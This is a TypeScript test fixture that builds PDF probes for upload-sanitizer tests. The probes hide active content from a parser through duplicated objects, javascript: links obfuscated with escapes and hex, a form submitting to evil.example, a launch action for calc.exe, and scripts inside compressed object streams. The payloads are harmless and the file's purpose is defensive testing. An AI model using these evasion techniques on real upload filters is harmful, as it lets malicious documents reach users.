// The PDFs that got past the parser's view of a document (issue 28 §2), built byte by byte, for the upload tests.
import { deflateSync } from 'node:zlib';
import { pdf } from './multipart.ts';

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\('x'\\)) >>";

/** A document whose object 4 is written twice: the table points at the script, a front-to-back parser keeps the other. */
function duplicateObject(): Buffer {
  const head = '%PDF-1.7\n';
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  let text = head;
  const offsets = bodies.map((body, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  offsets.push(text.length);
  text += `4 0 obj\n${SCRIPT}\nendobj\n`;
  text += '4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n';
  const xref = text.length;
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 5\n0000000000 65535 f \n${rows}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A page linking through `action` (an annotation, object 4). Offsets are rebuilt by pdf(). */
const withLink = (action: string) =>
  pdfWithPage(`/Annots [4 0 R]`, [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`]);

/** pdf(), with `pageExtra` added to the page dictionary. */
function pdfWithPage(pageExtra: string, objects: string[]): Buffer {
  const base = pdf('', objects).toString('latin1');
  // The page is object 3; the extra entries shift the offsets after it, so rebuild them.
  const text = base.replace('/MediaBox [0 0 200 200] >>', `/MediaBox [0 0 200 200] ${pageExtra} >>`);
  return reindex(text);
}

/** Rewrites the cross-reference table of a one-section file written by pdf() after its objects moved. */
function reindex(text: string): Buffer {
  const xrefAt = text.lastIndexOf('xref\n');
  const body = text.slice(0, xrefAt);
  const offsets = [...body.matchAll(/(\d+) 0 obj\n/g)].map((m) => m.index as number);
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(`${body}xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${rows}${trailer}`, 'latin1');
}

/** An object stream, compressed, holding a script action as object 5 (not referenced by the table). */
function scriptInObjectStream(filter = '/FlateDecode', encode = (b: Buffer) => deflateSync(b)): Buffer {
  const objects = `5 0 ${SCRIPT}`;
  const data = encode(Buffer.from(objects, 'latin1'));
  const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n`;
  const base = pdf('', ['PLACEHOLDER']).toString('latin1');
  const text = base.replace('PLACEHOLDER', `${stream}${data.toString('latin1')}\nendstream`);
  return reindex(text);
}

export const probePdfs: Record<string, () => Buffer> = {
  'one object written twice, the table pointing at the script': duplicateObject,
  'an HTML page in a stream after the end': () =>
    Buffer.concat([pdf(), Buffer.from('4 0 obj\n<< >>\nstream\n<html><script>alert(1)</script></html>\nendstream\n')]),
  'a link to javascript:': () => withLink('<< /S /URI /URI (javascript:alert\\(document.cookie\\)) >>'),
  'a link to JaVa\\tScRiPt: with escapes': () => withLink('<< /S /URI /URI (JaVa\\011Sc\\162ipt:alert\\(1\\)) >>'),
  'a link to javascript: in hex': () =>
    withLink(`<< /S /URI /URI <${Buffer.from('javascript:alert(1)').toString('hex')}> >>`),
  'a form that submits itself': () => withLink('<< /S /SubmitForm /F (https://evil.example/collect) >>'),
  'a form that imports data': () => withLink('<< /S /ImportData /F (data.fdf) >>'),
  'a launch action': () => withLink('<< /S /Launch /F (calc.exe) >>'),
  'a script name written with an escape, in an appended update': () =>
    Buffer.concat([pdf(), Buffer.from(`4 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n%%EOF\n`)]),
  'an XFA form': () => pdf('/AcroForm << /Fields [] /XFA 4 0 R >> ', ['<< /Length 0 >>\nstream\n\nendstream']),
  'rich media': () => withLink('<< /S /RichMediaExecute /TA 5 0 R >>'),
  'a script inside a compressed object stream': () => scriptInObjectStream(),
  'a script inside an object stream in hex and compressed': () =>
    scriptInObjectStream('[/ASCIIHexDecode /FlateDecode]', (b) => Buffer.from(`${deflateSync(b).toString('hex')}>`)),
  'an encrypted document': () =>
    Buffer.from(pdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'), 'latin1'),
};
